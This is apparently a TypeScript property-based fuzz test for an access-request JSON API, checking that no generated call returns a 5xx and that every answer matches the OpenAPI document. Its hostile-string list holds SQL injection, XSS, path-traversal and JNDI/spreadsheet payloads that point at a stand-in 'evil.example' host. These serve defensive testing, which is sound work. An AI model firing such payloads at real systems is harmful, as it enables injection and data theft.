import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cancelRequest } from "@/lib/access/cancel-request";
import { requestAccess } from "@/lib/access/request-access";
import { revokeRequest } from "@/lib/access/revoke-request";
import { sessionCookieName } from "@/lib/auth/session";
import { env } from "@/lib/config/env";
import { db } from "@/lib/db/client";
import { isTerminal } from "@/lib/domain/request-state";
import { bearer, session, type Credentials } from "../support/api";
import { checkAgainstDocument } from "../support/openapi-contract";
import { apiOperations, scalarOf, type ApiOperation, type JsonSchema } from "../support/openapi-routes";
import { contextFor } from "../support/users";

/**
 * Guards against any input giving a 5xx: a schema-aware fuzz run over every operation of the OpenAPI
 * document, bodies and query strings generated from its schemas, mixed with hostile strings and
 * values of the wrong type, sent by people of every role; every answer must be one the document
 * describes. Bounded by the number of runs (the test's timeout bounds its time); a failure prints
 * the seed and the shrunk input that reproduces it.
 */

const RUNS = 2_000;

const HOSTILE_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\uD800",
  "\uDFFF",
  "\uDE80\uD83D",
  "\u202Eevil",
  "\uFEFF",
  "🚀",
  "%",
  "%00",
  "%ED%A0%80",
  "_",
  "\\",
  "'; DROP TABLE access_request; --",
  "' OR '1'='1",
  "<script>alert(1)</script>",
  '=HYPERLINK("https://evil.example")',
  "${jndi:ldap://evil.example/a}",
  "../../etc/passwd",
  "null",
  "NaN",
  "-1",
  "1e309",
  "0000-01-01T00:00:00Z",
  "0001-01-01T00:00:00+01:00",
  "9999-12-31T23:59:59-14:00",
  "+275760-09-13T00:00:00Z",
  "2026-02-30T00:00:00Z",
  "P99999999999D",
  "PT0M",
  "-PT1H",
  "P1Y",
  "PT1.5H",
  "PT99999999999999999999M",
  "00000000-0000-0000-0000-000000000000",
  "x".repeat(3_000),
  "é".repeat(40_000),
];

const hostileString = fc.constantFrom(...HOSTILE_STRINGS);
/** What PostgreSQL cannot store: NUL, lone surrogates, dates before the year 1 (in UTC). */
const UNSTORABLE = fc.constantFrom(
  "\u0000",
  "Rotate\u0000it",
  "\uD800",
  "Rotate\uDFFFit",
  "0000-01-01T00:00:00Z",
  "0001-01-01T00:00:00+01:00",
);
const anyString = fc.oneof(
  hostileString,
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
);
const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(anyString, { maxLength: 3 }),
  fc.dictionary(anyString, anyString, { maxKeys: 3 }),
);

/** Values for one field: mostly what its schema describes, some hostile, some of another type. */
/**
 * Values that pass a field's checks, by field name, so that generated calls also get past validation
 * to the use cases and the database, where hostile text in the other fields used to fail.
 */
const PLAUSIBLE: Record<string, string[]> = {
  cluster: ["aks-prod-weu", "aks-dev-weu"],
  role: ["admin", "node-access", "cluster-admin"],
  duration: ["PT1H", "PT30M", "PT8H"],
  actor: ["n01@contoso.com", "adm01@contoso.com"],
  requester: ["n01@contoso.com"],
  // Cursors are opaque: these are the first and the hundredth event's (base64url of the sequence number).
  cursor: [Buffer.from("1").toString("base64url"), Buffer.from("100").toString("base64url")],
  q: ["certificate", "INC"],
};

function valueFor(schema: JsonSchema, name = ""): fc.Arbitrary<unknown> {
  const scalar = scalarOf(schema);
  let typed: fc.Arbitrary<unknown>;
  if (scalar.enum) typed = fc.constantFrom(...scalar.enum);
  else if (PLAUSIBLE[name]) typed = fc.oneof(fc.constantFrom(...PLAUSIBLE[name]), anyString);
  else if (scalar.format === "date-time")
    typed = fc
      .date({ min: new Date(-8.64e15), max: new Date(8.64e15), noInvalidDate: true })
      .map((date) => date.toISOString());
  else if (scalar.format === "uuid") typed = fc.uuid();
  else if (scalar.type === "string") typed = fc.oneof(fc.constantFrom("Rotate the certificate", "INC12345"), anyString);
  else if (scalar.type === "boolean") typed = fc.boolean();
  else if (scalar.type === "integer" || scalar.type === "number")
    typed = fc.oneof(fc.integer({ min: -10, max: 300 }), fc.integer());
  else if (scalar.type === "array") typed = fc.array(valueFor(scalar.items ?? {}), { maxLength: 4 });
  else typed = anyString;
  return fc.oneof(
    { weight: 6, arbitrary: typed },
    { weight: 2, arbitrary: anyString },
    { weight: 1, arbitrary: wrongType },
  );
}

/** A value its field accepts: what a careful client would send. */
function validFor(schema: JsonSchema, name: string): fc.Arbitrary<unknown> {
  const scalar = scalarOf(schema);
  if (scalar.enum) return fc.constantFrom(...scalar.enum);
  if (PLAUSIBLE[name]) return fc.constantFrom(...PLAUSIBLE[name]);
  if (scalar.format === "date-time")
    return fc
      .date({ min: new Date("2020-01-01T00:00:00Z"), max: new Date("2030-01-01T00:00:00Z"), noInvalidDate: true })
      .map((date) => date.toISOString());
  if (scalar.format === "uuid") return fc.uuid();
  if (scalar.type === "boolean") return fc.boolean();
  if (scalar.type === "integer" || scalar.type === "number") return fc.integer({ min: 1, max: 50 });
  if (scalar.type === "array") return fc.array(validFor(scalar.items ?? {}, name), { minLength: 1, maxLength: 2 });
  return fc.constantFrom("Rotate the certificate", "INC12345");
}

/**
 * Fields for an operation, mostly a valid set with ONE field replaced by a generated value (so that
 * the hostile value reaches the use case and the database behind the other fields' checks), and
 * sometimes every field generated at once.
 */
function fieldsFor(properties: Record<string, JsonSchema>): fc.Arbitrary<Record<string, unknown>> {
  const names = Object.keys(properties);
  if (names.length === 0) return fc.constant({});
  const valid = fc.record(Object.fromEntries(names.map((name) => [name, validFor(properties[name]!, name)])), {
    requiredKeys: [],
  });
  const mutated = fc
    .tuple(valid, fc.constantFrom(...names))
    .chain(([base, name]) =>
      fc.oneof(UNSTORABLE, valueFor(properties[name]!, name)).map((value) => ({ ...base, [name]: value })),
    );
  const generated = fc.record(Object.fromEntries(names.map((name) => [name, valueFor(properties[name]!, name)])), {
    requiredKeys: [],
  });
  return fc.oneof(
    { weight: 3, arbitrary: mutated },
    { weight: 1, arbitrary: valid },
    { weight: 2, arbitrary: generated },
  );
}

/** A JSON body for the operation: some of its fields, now and then an unknown one, or not JSON at all. */
function bodyFor(schema: JsonSchema | undefined): fc.Arbitrary<string | undefined> {
  const fields = fieldsFor(schema?.properties ?? {});
  const object = fc
    .tuple(fields, fc.option(fc.dictionary(anyString, wrongType, { maxKeys: 2 }), { nil: undefined }))
    .map(([known, unknown]) => JSON.stringify({ ...unknown, ...known }));
  return fc.oneof(
    { weight: 8, arbitrary: object },
    { weight: 1, arbitrary: fc.constant(undefined) },
    { weight: 1, arbitrary: fc.oneof(fc.json(), anyString, fc.constant("{".repeat(10_000))) },
  );
}

/** A query string: the operation's parameters with generated values, sometimes raw text. */
function queryFor(query: ApiOperation["query"]): fc.Arbitrary<string> {
  const parameters = fieldsFor(query);
  const encoded = parameters.map((values) => {
    const search = new URLSearchParams();
    for (const [name, value] of Object.entries(values))
      for (const one of [value].flat()) search.append(name, typeof one === "string" ? one : JSON.stringify(one));
    return search.toString();
  });
  const raw = fc.oneof(hostileString, fc.string({ maxLength: 60 })).map((text) => text.replace(/[#\s]/g, ""));
  return fc.oneof({ weight: 8, arbitrary: encoded }, { weight: 1, arbitrary: raw });
}

/** Requests that exist (filed in beforeAll), so that calls on a request get past "not found". */
const existingIds: string[] = [];

/** A path segment: an existing request, any UUID, or a hostile string that a URL can carry (not a lone surrogate). */
const idFor = fc.oneof(
  { weight: 3, arbitrary: fc.constant(null).map(() => existingIds[0]!) },
  { weight: 3, arbitrary: fc.constant(null).map(() => existingIds[1]!) },
  { weight: 2, arbitrary: fc.uuid() },
  {
    weight: 1,
    arbitrary: hostileString
      .filter((text) => text.length < 100 && !/[\uD800-\uDFFF]/.test(text))
      .map(encodeURIComponent),
  },
);

const operations = (await apiOperations()).filter((operation) => operation.operationId !== "getOpenApiDocument");

const credentials: Credentials[] = [];
const startedAt = new Date();
beforeAll(async () => {
  for (const upn of ["n01@contoso.com", "p01@contoso.com", "aud01@contoso.com", "adm01@contoso.com"])
    credentials.push(await bearer(upn));
  credentials.push(await session("n02@contoso.com"));
  const n01 = await contextFor("n01@contoso.com");
  const justification = `Fuzz target ${startedAt.toISOString()}`;
  for (const input of [
    { cluster: "aks-prod-weu", role: "admin", duration: "PT1H", justification, ticket: "INC12345" },
    { cluster: "aks-dev-weu", role: "admin", duration: "PT1H", justification },
  ])
    existingIds.push((await requestAccess(input, n01)).id);
});

/**
 * The requests the run filed and left open are ended (cancelled by their requester, or revoked by an
 * admin), so that later test files do not meet them as duplicates or against the open-request cap.
 */
afterAll(async () => {
  const admin = await contextFor("adm01@contoso.com");
  const filed = await db.accessRequest.findMany({
    where: { createdAt: { gte: startedAt } },
    include: { requester: true },
  });
  for (const request of filed.filter((r) => !isTerminal(r.status as Parameters<typeof isTerminal>[0]))) {
    if (request.status === "pending")
      await cancelRequest(request.id, await contextFor(request.requester.userPrincipalName));
    else await revokeRequest(request.id, { reason: "Filed by the API fuzz run" }, admin);
  }
});

const byId = new Map(operations.map((operation) => [operation.operationId, operation]));

// Operations by id, so that a counterexample reads as `searchAudit`, not as the whole operation.
const call = fc.constantFrom(...byId.keys()).chain((operationId) =>
  fc.record({
    operationId: fc.constant(operationId),
    who: fc.nat({ max: 4 }),
    id: idFor,
    query: queryFor(byId.get(operationId)!.query),
    body: byId.get(operationId)!.method === "POST" ? bodyFor(byId.get(operationId)!.body) : fc.constant(undefined),
    contentType: fc.oneof(
      { weight: 9, arbitrary: fc.constant("application/json") },
      { weight: 1, arbitrary: fc.constantFrom("application/xml", "text/plain", "application/json; charset=latin1") },
    ),
  }),
);

describe("fuzzing the JSON API", () => {
  it(`answers no 5xx to ${RUNS} generated calls across the OpenAPI operations`, async () => {
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(call, async ({ operationId, who, id, query, body, contentType }) => {
        const operation = byId.get(operationId)!;
        const caller = credentials[who]!;
        const headers = new Headers();
        if (caller && "bearer" in caller) headers.set("authorization", `Bearer ${caller.bearer}`);
        if (caller && "cookie" in caller) {
          headers.set("cookie", `${sessionCookieName()}=${caller.cookie}`);
          headers.set("origin", new URL(env.APP_URL).origin);
        }
        if (body !== undefined) headers.set("content-type", contentType);
        const path = operation.path.replace("{id}", id);
        const url = new URL(`${path}${query ? `?${query}` : ""}`, env.APP_URL);
        const response = await operation.handler(new Request(url, { method: operation.method, headers, body }), {
          params: Promise.resolve<Record<string, string>>(
            operation.hasIdParameter ? { id: decodeURIComponent(id) } : {},
          ),
        });
        const text = await response.text();
        statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
        expect(response.status, `${operation.method} ${url.pathname}${url.search}: ${text.slice(0, 300)}`).toBeLessThan(
          500,
        );
        // Whatever it answered, it answered as the document says (status, content type, body).
        const answeredAs = response.headers.get("content-type");
        const parsed = answeredAs?.startsWith("application/json") ? JSON.parse(text) : text;
        checkAgainstDocument({
          method: operation.method,
          path: url.pathname,
          template: operation.path,
          status: response.status,
          contentType: answeredAs,
          body: parsed,
        });
      }),
      { numRuns: RUNS },
    );
    // The run reached past validation too, not only refusals of malformed input.
    expect([...statuses.keys()].filter((status) => status < 300).length).toBeGreaterThan(0);
    expect([...statuses.values()].reduce((sum, count) => sum + count, 0)).toBe(RUNS);
  }, 240_000);
});
